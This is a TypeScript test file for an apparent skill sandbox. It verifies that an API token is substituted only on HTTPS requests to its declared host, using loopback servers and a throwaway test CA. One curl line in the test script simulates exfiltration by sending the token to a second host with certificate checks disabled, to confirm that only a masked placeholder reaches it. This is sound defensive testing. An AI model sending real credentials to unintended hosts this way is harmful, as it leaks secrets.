/**
 * Secrets over HTTPS: sandbox-runtime terminates TLS for the secret's host (ephemeral CA trusted
 * inside the sandbox) so its proxy can substitute the real value; another declared host keeps an
 * opaque tunnel and sees only the placeholder. Loopback servers only; certificates from openssl.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as https from 'node:https';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Manifest } from '@skillgate/format';
import type { RunSkillResult } from '../index.js';

const FIXTURES = fileURLToPath(new URL('../../src/__fixtures__/enforce', import.meta.url));
const INDEX = fileURLToPath(new URL('../index.js', import.meta.url));

function openssl(args: string[], cwd: string): void {
  execFileSync('openssl', args, { cwd, stdio: 'ignore' });
}

describe('runSkill: secrets over HTTPS', () => {
  let root: string;
  const seen: { host: string; url: string; auth: string | undefined }[] = [];
  const servers: https.Server[] = [];
  const ports: number[] = [];
  const TOKEN = 'real-https-token-77e1';

  before(async () => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'sg-enforce-https-'));
    openssl(
      [
        'req',
        '-x509',
        '-newkey',
        'rsa:2048',
        '-nodes',
        '-keyout',
        'ca.key',
        '-out',
        'ca.pem',
        '-days',
        '1',
        '-subj',
        '/CN=skillgate test CA',
      ],
      root,
    );
    fs.writeFileSync(path.join(root, 'ext.cnf'), 'subjectAltName=IP:127.0.0.1,IP:127.0.0.2\n');
    openssl(
      [
        'req',
        '-newkey',
        'rsa:2048',
        '-nodes',
        '-keyout',
        'srv.key',
        '-out',
        'srv.csr',
        '-subj',
        '/CN=127.0.0.1',
      ],
      root,
    );
    openssl(
      [
        'x509',
        '-req',
        '-in',
        'srv.csr',
        '-CA',
        'ca.pem',
        '-CAkey',
        'ca.key',
        '-CAcreateserial',
        '-out',
        'srv.pem',
        '-days',
        '1',
        '-extfile',
        'ext.cnf',
      ],
      root,
    );
    const key = fs.readFileSync(path.join(root, 'srv.key'));
    const cert = fs.readFileSync(path.join(root, 'srv.pem'));
    for (const host of ['127.0.0.1', '127.0.0.2']) {
      const srv = https.createServer({ key, cert }, (req, res) => {
        seen.push({ host, url: req.url ?? '', auth: req.headers.authorization });
        res.end(`tls hello from ${host}\n`);
      });
      await new Promise<void>((r) => srv.listen(0, host, r));
      servers.push(srv);
      ports.push((srv.address() as AddressInfo).port);
    }
    fs.mkdirSync(path.join(root, 'ws'));
    fs.mkdirSync(path.join(root, 'home'));
  });

  after(async () => {
    await Promise.all(servers.map((s) => new Promise<void>((r) => s.close(() => r()))));
    fs.rmSync(root, { recursive: true, force: true });
  });

  it('substitutes the real value only on HTTPS to the secret host', async () => {
    const [a, b] = ports;
    const manifest: Manifest = {
      name: 'probe-skill',
      version: '1.0.0',
      description: 'https probe',
      capabilities: {
        network: [`127.0.0.1:${a}`, `127.0.0.2:${b}`],
        exec: ['curl'],
        env: [{ name: 'API_TOKEN', hosts: [`127.0.0.1:${a}`] }],
      },
    };
    const script = [
      `curl -sS -H "Authorization: Bearer $API_TOKEN" https://127.0.0.1:${a}/tls-secret`,
      // B is not terminated: the sandbox's trust bundle does not know the test CA, hence -k
      `curl -sSk -H "Authorization: Bearer $API_TOKEN" https://127.0.0.2:${b}/tls-exfil`,
      'echo "inside=$API_TOKEN"',
    ].join('; ');
    const opts = {
      skillDir: path.join(FIXTURES, 'probe-skill'),
      manifest,
      workspace: path.join(root, 'ws'),
      command: ['bash', '-c', script],
      env: { HOME: path.join(root, 'home'), API_TOKEN: TOKEN },
      timeoutMs: 60_000,
    };
    const child = spawn(
      process.execPath,
      [path.join(FIXTURES, 'https-run.mjs'), INDEX, JSON.stringify(opts)],
      {
        env: { ...process.env, NODE_EXTRA_CA_CERTS: path.join(root, 'ca.pem') },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const code = await new Promise<number | null>((r) => child.on('close', r));
    assert.equal(code, 0, stderr);
    const r = JSON.parse(stdout) as RunSkillResult & { out: string };
    assert.match(r.out, /tls hello from 127\.0\.0\.1/, stderr);
    assert.match(r.out, /tls hello from 127\.0\.0\.2/, stderr);
    const inside = /inside=(\S+)/.exec(r.out)?.[1] ?? '';
    assert.match(inside, /^SKILLGATE_MASKED_/);
    assert.equal(seen.find((s) => s.url === '/tls-secret')?.auth, `Bearer ${TOKEN}`);
    assert.equal(seen.find((s) => s.url === '/tls-exfil')?.auth, `Bearer ${inside}`);
  });
});
